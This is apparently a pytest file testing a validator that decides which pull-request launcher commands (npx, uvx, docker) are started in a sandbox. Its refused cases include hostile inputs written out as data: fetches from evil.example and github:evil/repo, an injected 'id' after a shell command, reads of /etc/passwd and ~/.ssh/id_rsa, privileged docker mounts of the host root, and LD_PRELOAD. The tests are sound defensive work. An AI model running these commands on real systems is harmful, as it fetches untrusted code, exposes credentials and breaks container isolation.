"""Commands of pull requests: which are started to see what they show, how, and which never."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from driftwatch.review.startable import PLACEHOLDER, Startable, Unfit, startable
from driftwatch.review.starts import Start


def fit(line: str, *env: str) -> Startable | Unfit:
    return startable(Start("notes", tuple(shlex.split(line)), env), folder="/empty", network=False)


@pytest.mark.parametrize(
    "line",
    [
        "npx -y @notes/mcp@1.2.0 /srv/notes --flag --registry https://ours",
        "npx @notes/mcp",
        "npx -y -p @notes/mcp@1.2.0 notes-mcp --x",
        "npx --package=@notes/mcp@1.2.0 -- notes-mcp",
        "npm exec -y -- @notes/mcp@1.2.0",
        "pnpm dlx @notes/mcp@1.2.0",
        "yarn dlx @notes/mcp@1.2.0",
        "bunx @notes/mcp@1.2.0",
        "uvx notes-mcp==1.2.0 --x",
        "uvx --python 3.12 --from notes-mcp==1.2.0 serve",
        "uvx --with a==1,b==2 notes-mcp",
        "uv tool run --from notes-mcp==1.2.0 serve",
        "pipx run --spec notes-mcp==1.2.0 serve",
        "cmd /c npx -y @notes/mcp@1.2.0",
        "npx.cmd -y @notes/mcp@1.2.0",
    ],
)
def test_what_fetches_a_package_of_a_registry_is_started_in_a_sandbox(line: str) -> None:
    found = fit(line)

    assert isinstance(found, Startable), found
    assert (found.started.sandbox.kind, found.started.sandbox.network) == ("bwrap", "fetch-only")
    assert (found.started.sandbox.home, found.started.cwd) == ("empty", "/empty")
    assert found.written.shown_command == line


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("python3 server.py", "no program that fetches"),
        ("./npx -y a@1.0.0", "no program that fetches"),
        ("/usr/bin/env npx -y a@1.0.0", "no program that fetches"),
        ("sh -c 'npx -y a@1.0.0; id'", "no program that fetches"),
        ("sh -c 'docker run --privileged a'", "no program that fetches"),
        ("env docker run --privileged a", "no program that fetches"),
        ("npx --registry https://evil.example -y a@1.0.0", "no pull request may set"),
        ("npx --registry=https://evil.example a@1.0.0", "no pull request may set"),
        ("npx -y --node-options=--require=/x a@1.0.0", "no pull request may set"),
        ("npx -c 'id' -p a@1.0.0", "no pull request may set"),
        ("npx -y -p a@1.0.0 --userconfig /x b", "no pull request may set"),
        ("uvx --env-file /x notes-mcp", "no pull request may set"),
        ("uv run --directory /home notes.py", "names no package"),
        ("uv run --with a==1 server.py", "names no package"),
        ("npx -y ./local", "no package of a registry"),
        ("npx -y file:/etc", "no package of a registry"),
        ("npx -y github:evil/repo", "no package of a registry"),
        ("npx -y https://evil.example/a.tgz", "no package of a registry"),
        ("uvx --from git+https://evil.example/a serve", "no package of a registry"),
        ("npx -y a@1.0.0 /etc/passwd", "is a file of this machine"),
        ("npx -y a@1.0.0 --config=/etc/passwd", "is a file of this machine"),
        ("npx -y a@1.0.0 /etc/passwd/", "is a file of this machine"),
        ("npx -y a@1.0.0 --config=/etc/passwd/.", "is a file of this machine"),
        ("npx -y a@1.0.0 ../../.git/config", "is a file of this machine"),
        ("npx -y a@1.0.0 ~/.ssh/id_rsa", "is a file of this machine"),
        ("npx", "names no package"),
        ("docker compose run a", "names no package"),
        ("docker exec a id", "names no package"),
    ],
)
def test_all_else_is_not_started_and_it_is_said_why(line: str, said: str) -> None:
    found = fit(line)

    assert isinstance(found, Unfit), found
    assert said in found.why


def test_variables_hold_placeholders_and_those_that_steer_programs_are_not_set() -> None:
    steering = ("LD_PRELOAD", "NODE_OPTIONS", "npm_config_registry", "HOME", "SSL_CERT_FILE", "https_proxy", "GIT_SSH")
    found = fit("npx -y a@1.0.0 --token ${TOKEN}", "KEY", *steering)

    assert isinstance(found, Startable)
    assert {name: secret.reveal() for name, secret in found.started.env.items()} == {"KEY": PLACEHOLDER}
    assert found.started.args[-1] == PLACEHOLDER
    assert found.written.shown_command == "npx -y a@1.0.0 --token ${TOKEN}"
    assert set(found.written.env) == {"KEY", *steering}


def test_a_container_is_started_with_walls_of_our_own_and_none_of_its_options() -> None:
    line = "docker run -i --privileged -v /:/host --network host --pid=host -e KEY=x -e LD_PRELOAD mcp/notes:1.2 --flag"

    found = fit(line, "OTHER")

    assert isinstance(found, Startable)
    args = list(found.started.args)
    assert args[:4] == ["run", "--rm", "-i", "--init"]
    assert args[args.index("--network") + 1] == "none"
    assert args[-2:] == ["mcp/notes:1.2", "--flag"]
    assert {"--privileged", "-v", "/:/host", "--pid=host", "host"}.isdisjoint(args)
    assert f"KEY={PLACEHOLDER}" in args
    assert f"OTHER={PLACEHOLDER}" in args


def test_a_program_of_the_pull_request_is_never_taken_for_an_engine(tmp_path: Path) -> None:
    (tmp_path / "docker").touch()

    found = fit(f"{tmp_path}/docker run -i mcp/notes:1.2")

    assert isinstance(found, Unfit)
